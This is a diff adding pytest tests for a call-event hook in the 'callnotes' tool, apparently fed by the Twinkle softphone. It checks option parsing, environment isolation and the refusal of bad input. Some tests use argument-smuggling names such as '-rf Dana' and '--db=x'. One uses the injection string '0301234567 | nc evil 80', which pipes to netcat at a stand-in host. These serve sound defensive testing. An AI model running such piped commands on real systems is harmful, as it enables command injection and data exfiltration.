@@ -1,0 +1,118 @@
+"""The hook in-process: options, what it forwards, and the app command it would start."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from callnotes import hook
+from callnotes.cli import build_parser
+from callnotes.domain.call_events import CallEvent, EventKind, event_from_arguments
+from callnotes.domain.calls import CallDirection
+from callnotes.launch import as_call_arguments
+
+
+class FakeSpawn:
+    def __init__(self) -> None:
+        self.calls: list[tuple[list[str], dict[str, str]]] = []
+
+    def __call__(self, command: list[str], env: dict[str, str]) -> None:
+        self.calls.append((command, env))
+
+
+def test_with_no_app_running_it_starts_one_with_the_event(tmp_path: Path, capsys) -> None:
+    spawn = FakeSpawn()
+    env = {
+        "PATH": "/usr/bin",
+        "TWINKLE_TRIGGER": "in_call_answered",
+        "SIP_FROM_USER": "0301234567",
+        "SIP_FROM": '"-rf Dana" <sip:0301234567@pbx>',
+    }
+    code = hook.main([f"--data-dir={tmp_path}"], env, spawn)
+    assert code == 0
+    assert capsys.readouterr().out == "", "Twinkle reads stdout"
+    [(command, child_env)] = spawn.calls
+    assert command[:3] == [sys.executable, "-m", "callnotes"]
+    assert command[3] == f"--data-dir={tmp_path}"
+    assert child_env == {"PATH": "/usr/bin"}, "the caller's details stay out of the app's env"
+    # What the app reads from that command line is the event the hook read.
+    args = build_parser().parse_args(as_call_arguments(command[3:]))
+    assert (args.command, args.event, args.name, args.number) == (
+        "call",
+        "answered",
+        "-rf Dana",
+        "0301234567",
+    )
+
+
+def test_the_app_command_keeps_an_outbound_call_and_odd_names_as_values() -> None:
+    event = CallEvent(
+        EventKind.ENDED, number="+4930123", name="--db=x", direction=CallDirection.OUTBOUND
+    )
+    command = hook.app_command(event, None)
+    args = build_parser().parse_args(command[3:])
+    assert args.db is None and args.name == "--db=x" and args.outbound
+    assert event_from_arguments(
+        [args.number], event=args.event, name=args.name, outbound=args.outbound
+    ) == CallEvent(
+        EventKind.ENDED,
+        number="+4930123",
+        name="--db=x",
+        direction=CallDirection.OUTBOUND,
+    )
+
+
+@pytest.mark.parametrize(
+    ("argv", "targets", "values"),
+    [
+        (["0301234567"], ["0301234567"], {}),
+        (["--event=answered", "0301234567"], ["0301234567"], {"--event": "answered"}),
+        (
+            ["--event", "ended", "--name", "Dana", "0301"],
+            ["0301"],
+            {"--event": "ended", "--name": "Dana"},
+        ),
+        (["--", "-0301"], ["-0301"], {}),
+        (["0301", "--event=ended"], ["0301", "--event=ended"], {}),  # options come first
+    ],
+)
+def test_options_first_then_the_number(argv, targets, values) -> None:
+    options = hook.parse_options(argv)
+    assert options.targets == targets
+    assert options.values == values
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [["--event"], ["--event=ringing", "--event=ended", "1"], ["--format=c:", "1"], ["--name"]],
+)
+def test_bad_options_are_refused(argv, tmp_path: Path, capsys) -> None:
+    assert hook.main([f"--data-dir={tmp_path}", *argv], {}, FakeSpawn()) == 2
+    captured = capsys.readouterr()
+    assert captured.out == ""
+    assert captured.err.startswith("callnotes-event: ")
+
+
+def test_a_refusal_is_logged_without_the_input(tmp_path: Path, capsys) -> None:
+    assert hook.main([f"--data-dir={tmp_path}", "0301234567 | nc evil 80"], {}, FakeSpawn()) == 2
+    log = (tmp_path / "logs" / "callnotes.log").read_text()
+    assert "WARNING callnotes.hook: refused an event" in log
+    assert "0301234567" not in log and "evil" not in log
+
+
+def test_help_is_printed_only_when_asked(capsys) -> None:
+    assert hook.main(["--help"], {}, FakeSpawn()) == 0
+    assert capsys.readouterr().out.startswith("usage: callnotes-event")
+
+
+def test_the_hook_loads_no_qt_and_no_database() -> None:
+    probe = (
+        "import sys, callnotes.hook; "
+        "heavy = [m for m in ('PySide6', 'sqlalchemy', 'phonenumbers', 'jinja2', 'callnotes.app')"
+        " if m in sys.modules]; print(heavy)"
+    )
+    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True)
+    assert result.stdout.strip() == "[]"
